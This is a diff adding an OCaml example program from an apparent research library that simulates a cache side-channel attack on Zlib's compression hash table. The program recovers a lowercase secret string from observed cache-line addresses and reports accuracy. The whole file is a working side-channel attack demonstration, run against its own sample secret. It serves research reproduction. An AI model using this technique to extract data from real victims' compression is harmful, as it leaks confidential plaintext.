@@ -1,0 +1,34 @@
+(* Recover lowercase text from the Zlib hash-table gadget's cache trace
+   (paper Section IV-B): the attacker sees only line-granular addresses of
+   head[ins_h] stores, yet reconstructs the plaintext.
+
+     dune exec examples/recover_text.exe *)
+
+open Zipchannel
+
+let () =
+  let ppf = Format.std_formatter in
+  let secret = Bytes.of_string "attackatdawnbringbothkeysandthetreasuremaps" in
+  let head_base = Taintchannel.Zlib_gadget.head_base in
+  (* The victim compresses; each INSERT_STRING dereferences
+     head + ins_h*2, and the cache channel reveals the line address. *)
+  let observed =
+    Array.map
+      (fun ins_h -> Attack.Recovery.zlib_observe ~head_base ~ins_h)
+      (Compress.Lz77.hash_head_trace secret)
+  in
+  Format.fprintf ppf "victim inserted %d hash-table entries@."
+    (Array.length observed);
+  (* Unconditional leak: 2 bits of every byte. *)
+  let bits = Attack.Recovery.zlib_direct_bits ~head_base observed in
+  Format.fprintf ppf "direct 2-bit leak of the first bytes: %s ...@."
+    (String.concat " "
+       (List.map string_of_int (Array.to_list (Array.sub bits 0 12))));
+  (* With the lowercase-ASCII assumption, the full text comes back. *)
+  let recovered =
+    Attack.Recovery.zlib_recover_lowercase ~head_base
+      ~n:(Bytes.length secret) observed
+  in
+  Format.fprintf ppf "recovered: %S@." (Bytes.to_string recovered);
+  Format.fprintf ppf "byte accuracy: %.1f%% (the final byte never reaches the channel)@."
+    (100.0 *. Util.Stats.fraction_equal recovered secret)
